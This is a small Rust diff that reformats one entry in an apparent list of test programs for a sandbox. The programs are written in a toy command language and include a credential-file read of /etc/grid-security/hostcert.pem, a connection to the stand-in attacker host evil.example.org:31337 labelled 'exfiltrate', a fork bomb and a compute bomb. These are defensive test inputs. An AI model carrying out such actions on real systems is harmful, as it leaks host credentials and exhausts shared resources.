@@ -18,7 +18,10 @@ const PROGRAMS: &[(&str, &str)] = &[
         "wellbehaved",
         "read /data/input.dat; compute 10; write /tmp/out result; print analysis ok",
     ),
-    ("fs-escape", "read /etc/grid-security/hostcert.pem; print leaked"),
+    (
+        "fs-escape",
+        "read /etc/grid-security/hostcert.pem; print leaked",
+    ),
     ("exfiltrate", "net evil.example.org:31337; print sent"),
     ("fork-bomb", "spawn; spawn; spawn"),
     ("compute-bomb", "compute 999999"),
